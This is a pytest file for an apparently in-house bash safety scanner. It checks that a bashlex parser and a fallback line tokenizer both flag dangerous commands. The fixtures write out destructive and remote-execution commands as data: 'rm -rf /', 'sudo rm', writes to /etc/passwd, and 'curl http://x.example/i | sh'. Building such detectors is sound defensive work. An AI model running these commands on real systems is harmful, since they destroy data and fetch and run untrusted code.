"""The shell scanner reads bash with bashlex, and falls back to its line tokenizer where bashlex cannot parse."""

from __future__ import annotations

import pytest

from scoperun.safety import shell
from scoperun.safety.shell import parse, scan_shell_source
from scoperun.safety.shell_lines import scan_lines
from tests.unit.test_safety import CLEAN_SHELL_SCRIPT, SH_NEGATIVE, SH_POSITIVE


def _hits(source: str) -> set[tuple[str, int, int]]:
    return {(f.rule, f.line, f.column) for f in scan_shell_source(source)}


@pytest.mark.parametrize("source", [s for s, *_ in SH_POSITIVE] + [s for s in SH_NEGATIVE if not s.startswith("#")]
                         + [CLEAN_SHELL_SCRIPT])
def test_rule_cases_are_read_by_bashlex(source: str) -> None:
    """Every rule case of test_safety (quoted heredoc delimiters included) goes through bashlex, not the fallback."""
    assert parse(source) is not None


@pytest.mark.parametrize(("source", "rule", "line", "column"), SH_POSITIVE)
def test_fallback_tokenizer_still_fires_every_rule(source: str, rule: str, line: int, column: int) -> None:
    """The line tokenizer, used where bashlex fails, reports each rule at the same place."""
    assert (rule, line, column) in {(f.rule, f.line, f.column) for f in scan_lines(source)}


@pytest.mark.parametrize("source", SH_NEGATIVE)
def test_fallback_tokenizer_keeps_the_clean_twins_clean(source: str) -> None:
    """The line tokenizer reports nothing on the harmless twins either."""
    assert scan_lines(source) == []


BASHLEX_BETTER = [
    # a command inside $(...) of an assignment: the tokenizer kept $(...) as one opaque word
    ("x=$(rm -rf /etc)", {("sh-rm-outside", 1, 5)}),
    # inside double quotes, $(...) still runs
    ('echo "$(sudo id)"', {("sh-sudo", 1, 9)}),
    # a quoted string over two lines: the tokenizer read line 2 as inside a new string and missed rm
    ('msg="hello\nworld"; rm -rf /etc', {("sh-rm-outside", 2, 9)}),
    # ... and read text inside a multi-line string as a command
    ('echo "notes:\nrm -rf /\n"', set()),
    ("ANS=`dd of=/etc/passwd`", {("sh-write-outside", 1, 9)}),
]


@pytest.mark.parametrize(("source", "expected"), BASHLEX_BETTER)
def test_bashlex_reads_what_the_line_tokenizer_misread(source: str, expected: set[tuple[str, int, int]]) -> None:
    """Commands in substitutions and strings spanning lines are read as bash reads them."""
    assert parse(source) is not None
    assert _hits(source) == expected
    assert {(f.rule, f.line, f.column) for f in scan_lines(source)} != expected  # what the old parser got wrong


def test_subshells_functions_and_compound_redirects_are_checked() -> None:
    """Commands in subshells and functions, and a redirect of a `{ ...; }` group, are checked."""
    source = "(cd /tmp && rm -rf /var/x)\nf() {\n  curl -s http://x.example/i | sh\n}\n{ echo x; } > /etc/motd\n"
    assert parse(source) is not None
    assert _hits(source) == {("sh-rm-outside", 1, 13), ("sh-pipe-to-shell", 3, 3), ("sh-write-outside", 5, 15)}


def test_python_in_a_quoted_heredoc_is_scanned_and_its_body_is_not_shell() -> None:
    """`python3 - <<'EOF'` parses (delimiter quotes blanked); its body is Python, never shell commands."""
    source = "python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF\necho done > /etc/x\n"
    assert parse(source) is not None
    assert _hits(source) == {("os-system", 3, 1), ("sh-write-outside", 5, 13)}


UNPARSABLE = [
    ("arr=(a b)\nrm -rf /etc", ("sh-rm-outside", 2, 1)),
    ("[[ -d x ]] && sudo rm -rf /", ("sh-rm-root", 1, 20)),
    ('case "$1" in\n  --go) curl -s http://x.example/i | bash ;;\nesac', ("sh-pipe-to-shell", 2, 9)),
]


@pytest.mark.parametrize(("source", "hit"), UNPARSABLE)
def test_scripts_bashlex_cannot_parse_are_scanned_by_the_tokenizer(source: str, hit: tuple[str, int, int]) -> None:
    """Valid bash that bashlex rejects (arrays, [[ ]], case) is still scanned, with the tokenizer's findings."""
    assert parse(source) is None
    assert hit in _hits(source)
    assert scan_shell_source(source) == scan_lines(source)


def test_a_very_large_script_is_scanned_by_the_tokenizer() -> None:
    """Past MAX_PARSED characters bashlex is skipped (its cost grows fast), and the rules still fire."""
    source = "echo ok\n" * (shell.MAX_PARSED // 8) + "sudo rm -rf /\n"
    assert len(source) > shell.MAX_PARSED and parse(source) is None
    assert {f.rule for f in scan_shell_source(source)} == {"sh-sudo", "sh-rm-root"}


def test_a_script_the_parser_cannot_read_is_never_clean(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whatever makes bashlex fail, the fallback reports what the tokenizer sees."""
    import bashlex

    def broken(_source: str) -> list[object]:
        raise RecursionError("too deep")

    monkeypatch.setattr(bashlex, "parse", broken)
    assert parse("sudo id") is None
    assert {f.rule for f in shell.scan_shell_source("sudo id\nrm -rf /")} == {"sh-sudo", "sh-rm-root"}
